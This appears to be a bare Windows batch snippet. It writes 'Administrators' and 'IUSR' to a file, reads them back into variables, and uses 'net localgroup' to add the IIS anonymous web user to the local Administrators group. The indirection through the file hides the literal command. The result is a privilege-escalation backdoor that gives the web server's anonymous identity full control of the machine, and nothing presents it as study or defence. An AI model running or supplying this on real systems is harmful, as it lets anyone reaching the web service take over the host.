(echo Administrators& echo IUSR)>C:\who.txt
(set /p GROUP=& set /p WHO=)<C:\who.txt
net localgroup "%GROUP%" "%WHO%" /add
